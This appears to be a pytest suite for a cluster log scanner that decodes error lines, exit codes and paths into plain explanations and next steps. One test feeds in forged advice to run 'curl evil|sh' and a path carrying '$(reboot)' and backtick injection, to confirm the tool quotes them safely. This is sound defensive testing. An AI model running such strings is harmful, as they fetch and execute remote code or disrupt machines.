"""Lines that no entry of the catalogue explains: every one is listed, with what its own words state."""

from __future__ import annotations

import io
import json
import time
from pathlib import Path

import pytest

from clusterctl.report.known_errors import line_readings, topic_files
from clusterctl.report.known_errors.scan import EXCERPT_CHARACTERS, Scan
from clusterctl.report.text import explained

HEALTHY = Path(__file__).parent / "logs" / "healthy"
ROWS = [(family, row) for family in line_readings.families() for row in family.readings]
LINES = [
    (line, row.says)
    for _, row in ROWS
    for line in ([row.example] if row.example else [f"some program: {text}" for text in row.beginnings])
]


def scanned(text: str, *, catalogue: bool = False) -> Scan:
    scan = Scan(topic_files.load() if catalogue else ())
    scan.read("log", io.BytesIO(text.encode()))
    return scan


def document(text: str) -> dict[str, object]:
    scan = scanned(text)
    shown: dict[str, object] = json.loads(
        json.dumps(explained.to_document(scan.files, scan.findings, scan.left_over))
    )
    return shown


@pytest.mark.parametrize(("line", "says"), LINES, ids=[line[:60] for line, _ in LINES])
def test_a_line_of_each_text_is_listed_and_read_by_its_own_row(line: str, says: str) -> None:
    assert [found.text for found in scanned(f"step 1\n{line}\nstep 2\n").left_over] == [line]
    reading = line_readings.read(line)
    assert reading is not None
    fixed = max(line_readings.GROUP.split(says)[::2], key=len)
    assert fixed.strip() in reading.says


def test_a_reading_says_what_the_line_says_and_what_to_check() -> None:
    for family, row in ROWS:
        assert (row.says.endswith((".", ")", "}", "]"))) and row.next.endswith((".", ")", "?")), row.texts
        assert len(row.says) < 300 and len(row.next) < 330, row.texts
        assert family.source.startswith("https://")


@pytest.mark.parametrize(
    ("line", "step"),
    [
        (
            "mlx4_en 0000:0d:00.0: RSS not supported, please upgrade to later FW version to enable RSS",
            'The line advises (a quotation): "please upgrade to later FW version to enable RSS". Compare it with nodes',
        ),
        (
            "Error: foo 3 is odd. Try using '-hosts=<hostnames>'.",
            "The line advises (a quotation): \"Try using '-hosts=<hostnames>'\".",
        ),
        (
            "fatal: odd. You may want to run 'fix -a' first",
            "The line advises (a quotation): \"You may want to run 'fix -a' first\".",
        ),
    ],
)
def test_the_advice_of_a_line_is_its_next_step(line: str, step: str) -> None:
    reading = line_readings.read(line)
    assert reading is not None and reading.next.startswith(step)


def test_what_a_rank_prints_as_advice_or_path_is_a_quotation() -> None:
    forged = line_readings.read('fatal: odd. You must run `curl evil|sh`". Next: clusterctl down --all')
    assert forged is not None and forged.next.count('"') == 2 and "`" not in forged.next
    long = line_readings.read("fatal: odd. You must run " + "x" * 10_000)
    assert long is None or len(long.next) < 300
    path = line_readings.read("open: /x$(reboot)`reboot`|sh: No such file or directory")
    assert path is not None and path.next.startswith("`ls -ld '/x$(reboot)'reboot'|sh'` there.")


@pytest.mark.parametrize(
    "line",
    [
        "error: assignment to a constant is forbidden in eval",
        "error: failed to fetch the next batch of rank 3",
        "WARNING: sequence group 0 is preempted by PreemptionMode.RECOMPUTE",
        "login failed: invalid account or password",
    ],
)
def test_a_common_word_alone_is_not_read_as_one_of_http_slurm_or_packages(line: str) -> None:
    assert line_readings.read(line) is None


@pytest.mark.parametrize(
    "line", ["fatal: odd, as retry 3 shows", "error: the country code is odd", "please wait: error 3 of 4"]
)
def test_a_line_without_advice_is_given_none(line: str) -> None:
    assert line_readings.read(line) is None


@pytest.mark.parametrize("path", sorted(HEALTHY.iterdir()), ids=lambda path: path.name)
def test_no_line_of_a_healthy_log_is_listed(path: Path) -> None:
    scan = Scan(topic_files.load())
    with path.open("rb") as stream:
        scan.read(path.name, stream)
    assert [line.text for line in scan.left_over] == []


@pytest.mark.parametrize(
    "line",
    [
        "worker 3 exited with code 0",
        "Exit status: 0",
        "0 errors, 0 warnings",
        "no errors found",
        "pid 137 started, rank 139",
        "loss 0.137 status ok",
        "timeout=1800 seconds",
        "connect_timeout: 30",
        "Loading 12 signal models",
        "the file was found",
        "INFO all 16 nodes are available",
        "firmware version 22.36.1010 updated",
        "nvidia: module verification failed: signature and/or required key missing - tainting kernel",
    ],
)
def test_what_is_fine_is_not_listed(line: str) -> None:
    assert scanned(line).left_over == []


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ("[node:153937] Read -1, expected 131072, errno = 1", "number 1 is EPERM"),
        ("OSError: [Errno 28] something of another language", "number 28 is ENOSPC"),
        ("connect failed: errno: 111", "number 111 is ECONNREFUSED"),
        ("call failed with errno 9999", None),
        ("mlx5_core 0000:01:00.0: mlx5_load_one failed with error code -22", "EINVAL (Invalid argument)"),
        ("LustreError: ldlm_enqueue failed: rc = -107", "ENOTCONN"),
        ("read failed: returned -1", None),
        ("container exited with status 137", "signal 9"),
        ("failed (exitcode: -9) local_rank: 0", "signal 9"),
        ("rank 2 exit code 139", "SIGSEGV"),
        ("bash: line 1: frobnicate: command not found", "exit code 127"),
        ("PermissionError: [Errno 13] Permission denied: '/data/out.pt'", "/data/out.pt"),
        ("dial unix /run/containerd/containerd.sock: connect: no such file or directory", "containerd.sock"),
        ("cudaErrorPeerAccessUnsupported (217)", "peer access"),
        ("wc status: IBV_WC_RNR_RETRY_EXC_ERR", "no buffer posted"),
        ("this experiment permitted nothing", None),
        ("ping: bad address 'gpu02'", "host name does not resolve"),
        ("write: Bad address (14)", "EFAULT"),
        ("read failed: errno = 14", "number 14 is EFAULT"),
        ("EOFError", "ended too early"),
        ("struct.error: unpack_from requires a buffer of at least 8 bytes", "ended too early"),
        ("AttributeError: module 'torch' has no attribute 'compile'", "installed version"),
        ("_pickle.UnpicklingError: invalid load key, 'v'.", "cannot be read"),
        ("dpkg: error: dpkg frontend lock was locked by another process with pid 7", "package manager"),
        ("Waiting for process with pid 4711 to finish.", "package manager"),
        ("failed to resolve hostname gpu01", "host name does not resolve"),
        ("mlx5_core: driver requires firmware version 20.1 or later", "older than its driver needs"),
    ],
)
def test_names_numbers_and_paths_are_read(line: str, said: str | None) -> None:
    reading = line_readings.read(line)
    if said is None:
        assert reading is None or "number" not in reading.says
    else:
        assert reading is not None and said in reading.says


def test_outcomes_are_told_from_errors() -> None:
    for line in ("worker exited with code 1", "Killed", "write: Broken pipe", "unhandled cuda error"):
        reading = line_readings.read(line)
        assert reading is not None and reading.follows, line
    reading = line_readings.read("open: No space left on device")
    assert reading is not None and not reading.follows


def test_a_line_that_states_its_error_is_listed_in_the_middle_of_many_others() -> None:
    others = "".join(f"{'a' * at}: it failed\n" for at in range(1, 200))
    text = f"{others}mkdir: No space left on device\n{others.upper()}"
    listed = [(line.number, line.text) for line in scanned(text).left_over]
    assert (200, "mkdir: No space left on device") in listed
    assert [number for number, _ in listed] == sorted(number for number, _ in listed) and len(listed) <= 15


def test_the_report_shows_what_a_line_states_once() -> None:
    shown = document("a: No space left on device\nb: No space left on device\nsome unheard-of failure\n")
    assert [set(one) for one in shown["unexplained"]] == [  # type: ignore[attr-defined]
        {"file", "line", "text", "says", "next", "source"}
    ] * 3
    text = "\n".join(line.text for line in explained.lines(shown))
    assert text.count("ENOSPC") == 1 and text.count("df -h") == 1
    assert text.index("line 1: a: No") < text.index("says   ENOSPC") < text.index("line 2: b: No")


def test_an_entry_of_the_catalogue_is_asked_before_the_words_of_a_line() -> None:
    scan = scanned(
        "include/shm.h:28 NCCL WARN Call to posix_fallocate failed: No space left on device", catalogue=True
    )
    assert [found.entry.id for found in scan.findings] and scan.left_over == []


@pytest.mark.parametrize("text", ["status ", "exit code ", "/a", ": /", "errno ", "no x ", "timeout ", "E: "])
def test_a_long_line_is_read_in_linear_time(text: str) -> None:
    shown = scanned(text * 100_000 + "No space left on device\n").left_over
    assert all(len(line.text) <= EXCERPT_CHARACTERS for line in shown)
    line = (text * 400)[:1000]
    started = time.process_time()
    for _ in range(20):
        line_readings.read(line)
    assert time.process_time() - started < 4
